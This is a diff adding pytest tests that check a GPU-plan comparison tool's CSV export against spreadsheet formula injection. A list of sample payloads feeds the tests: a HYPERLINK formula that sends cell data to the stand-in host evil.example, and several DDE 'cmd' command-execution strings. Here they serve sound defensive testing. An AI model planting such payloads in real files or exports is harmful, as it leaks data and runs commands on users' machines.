@@ -257,3 +257,56 @@ def test_a_tight_plan_is_tight_in_compare_and_its_csv_as_on_the_plan_tab(window,
         rows = {r["Scenario"]: r for r in csv.DictReader(fh)}
     assert rows["Tight"]["Verdict"] == f"fits, {spare} GiB spare · tight"
     assert rows["Roomy"]["Verdict"] == texts[0]
+
+
+#: Names a spreadsheet would run as formulas (issue #22), each as the start of a plan, model or GPU name.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+]
+
+
+def test_csv_export_neutralises_formulas_and_keeps_numbers(window, tmp_path):
+    """Issue #22: names starting with = + - @ tab or CR were written as live formulas. OWASP: a leading '."""
+    scenarios = []
+    for i, formula in enumerate(FORMULAS[:4]):
+        s = _variant(f"{formula} plan", seq_len=1024 * (i + 1))
+        s.model_id = ""
+        s.model = s.model.model_copy(update={"name": FORMULAS[i + 4]})
+        s.gpu = s.gpu.model_copy(update={"name": f"@GPU{i}"})
+        scenarios.append(s)
+    lib = ScenarioLibrary()
+    view = _compare_files(window, [lib.save(s) for s in scenarios])
+    out = view.export_csv(tmp_path / "compare.csv")
+    with open(out, encoding="utf-8-sig", newline="") as fh:
+        table = list(csv.reader(fh))
+    header, rows = table[0], table[1:]
+    assert len(rows) == 4
+    for cells in table:
+        for cell in cells:
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") and cell.lstrip()[:1] not in ("=", "+", "-", "@"), cell
+    # the names are all there, behind the quote, and nothing else changed
+    assert [r[0] for r in rows] == [f"'{f} plan" for f in FORMULAS[:4]]
+    by_row = [dict(zip(header, r, strict=True)) for r in rows]
+    assert [r["Model"] for r in by_row] == [f"'{f}" for f in FORMULAS[4:]]
+    assert [r["GPU"] for r in by_row] == [f"'@GPU{i}" for i in range(4)]
+    for row, s in zip(by_row, scenarios, strict=True):
+        assert int(row["Sequence length (tokens)"]) == s.training.seq_len  # numbers stay numbers
+        assert float(row["Peak memory per GPU (GiB)"]) == pytest.approx(estimate(s).memory.total_bytes / GIB, abs=0.005)
+
+
+def test_csv_cells_are_quoted_only_when_a_spreadsheet_would_compute_them():
+    from tuneplan.ui.scenario_compare import spreadsheet_cell
+
+    assert [spreadsheet_cell(v) for v in (-3.5, -2, 0, 4096, 1.25)] == [-3.5, -2, 0, 4096, 1.25]
+    assert [spreadsheet_cell(v) for v in ("-3.5", "+2", "-1e-3")] == ["-3.5", "+2", "-1e-3"]  # a number, not a formula
+    assert [spreadsheet_cell(v) for v in FORMULAS] == [f"'{f}" for f in FORMULAS]
+    assert [spreadsheet_cell(v) for v in ("RTX 4090", "fits, 1.0 GiB spare", "", "a=b", "1-2")] == [
+        "RTX 4090", "fits, 1.0 GiB spare", "", "a=b", "1-2"]
+    assert spreadsheet_cell("-") == "'-"
